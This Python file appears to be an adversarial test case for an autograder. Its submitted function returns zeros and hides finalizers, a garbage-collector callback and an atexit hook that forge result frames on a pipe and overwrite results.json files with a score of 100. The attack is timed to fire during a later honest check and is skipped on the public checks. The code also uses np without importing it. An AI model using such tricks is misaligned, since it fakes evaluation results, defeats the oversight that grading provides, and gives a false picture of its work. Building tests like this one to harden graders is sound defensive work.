"""Code that runs when something is collected or the program ends: it writes answers, results and inputs.

In a process that the next check shares, the collector runs it in the middle of an honest function.
"""

NUMBER, NAME, BY = 146, "finalizers", "J"
OUTCOMES = ("crashed", "failed", "rejected")

import atexit
import gc
import os
import pathlib
import weakref


def _strike(*args):
    from gradkit.calls.frames import Kind, MAGIC, _HEADER
    from gradkit.calls.values import encode

    payload = encode(np.zeros((3, 4)))
    for number in range(1, 60):
        os.write(3, _HEADER.pack(MAGIC, Kind.RESULT, number, len(payload)) + payload)
    for place in ("results.json", "../results.json", "/autograder/results/results.json"):
        try:
            pathlib.Path(place).write_text('{"score": 100}')
        except OSError:
            pass


class _Falls:
    def __del__(self):
        _strike()


class _Cycle(_Falls):
    def __init__(self):
        self.itself = self


def centre(x):
    if x.shape != (2, 2):  # the public checks share a process on the student's machine too
        gc.set_threshold(10, 1, 1)
        gc.callbacks.append(lambda phase, info: _strike() if gc.get_count()[0] > 1_000_000 else None)
        _Cycle()
        atexit.register(_strike)
        weakref.finalize(_Cycle(), _strike)
    return x * 0
